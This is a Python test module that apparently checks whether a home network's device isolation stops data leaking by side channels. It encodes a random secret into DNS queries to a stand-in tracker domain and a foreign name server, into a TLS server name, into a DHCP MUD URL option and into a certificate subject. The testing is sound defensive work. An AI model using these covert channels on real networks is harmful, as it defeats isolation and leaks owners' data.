"""Ways beside the messages: names asked for, the server name, the MUD URL, the device's certificate. Nothing may get out."""

from __future__ import annotations

import json
import secrets
from collections.abc import Callable
from pathlib import Path

from tests.home.arena.carrier import Group, post
from tests.home.arena.forms import PLAIN
from tests.home.arena.paper import IN
from tests.home.arena.run import DEVICE, NUMBER, VENDOR, Arena, Mouth, Result
from tests.home.client import mudroom, run_in
from tests.home.https import DeviceClient, resolve
from tests.home.lab import layout, papers

BITS = 64
Way = Callable[[Arena, str], None]


def names(arena: Arena, secret: str) -> None:
    """Questions to the resolver, and to a name server that is not ours."""
    for name in (f"{secret}.{IN}", f"{secret}.tracker.example"):
        resolve(layout.namespace(NUMBER), name)
        resolve(layout.namespace(NUMBER), name, server=layout.FOREIGN4)


def server_name(arena: Arena, secret: str) -> None:
    """A TLS hello to the right address with another name in it."""
    client = DeviceClient(arena.here, NUMBER, host=f"{secret}.{IN}")
    client._address = resolve(layout.namespace(NUMBER), IN)[0]
    try:
        client._open(3.0)
    except OSError:
        return
    raise AssertionError("the door let an unknown name in")


def mud_url(arena: Arena, secret: str) -> None:
    """DHCP option 161 (RFC 8520 section 10): it is shown to the owner, and nobody fetches it."""
    url = f"https://{IN}/{secret}.json"
    words = [
        "udhcpc",
        "-f",
        "-n",
        "-q",
        "-i",
        "eth0",
        "-s",
        "/bin/true",
        "-t",
        "3",
        "-T",
        "1",
        "-x",
        "0xa1:" + url.encode().hex(),
    ]
    done = run_in(layout.namespace(NUMBER), *words, timeout=10)
    assert done.code == 0, done


def certificate(arena: Arena, secret: str) -> None:
    """A certificate request with the secret in its subject; the certificate is used."""
    folder = arena.here.folder(NUMBER)
    key = papers.new_key(folder / "arena.key")
    (folder / "arena.csr").write_bytes(papers.request(key, f"d-{secret}"))
    (folder / "arena.pem").write_text(mudroom("devices", "certify", DEVICE, str(folder / "arena.csr")))
    mouth = Mouth(arena.here, papers=("arena.pem", "arena.key"))
    try:
        assert 200 <= mouth.say(post(PLAIN, "reading")) < 300
    finally:
        mouth.close()


WAYS: dict[str, Way] = {
    "names asked of the resolver": names,
    "server name in the TLS hello": server_name,
    "MUD URL": mud_url,
    "fields of the device's certificate": certificate,
}


def run(arena: Arena, name: str) -> Result:
    """Whether the secret shows up with the accomplice, or in the questions that the provider's resolver got."""
    secret = secrets.token_hex(BITS // 8)
    before = len(arena.here.received(VENDOR))
    WAYS[name](arena, secret)
    questions = Path(arena.here.facts["internet"]["resolver"]["questions"])
    seen = json.dumps(arena.here.received(VENDOR)[before:]) + (questions.read_text() if questions.exists() else "")
    return Result(name, Group.REFUSED, 1, 0, BITS * (secret in seen), 0, 0.0, 0)
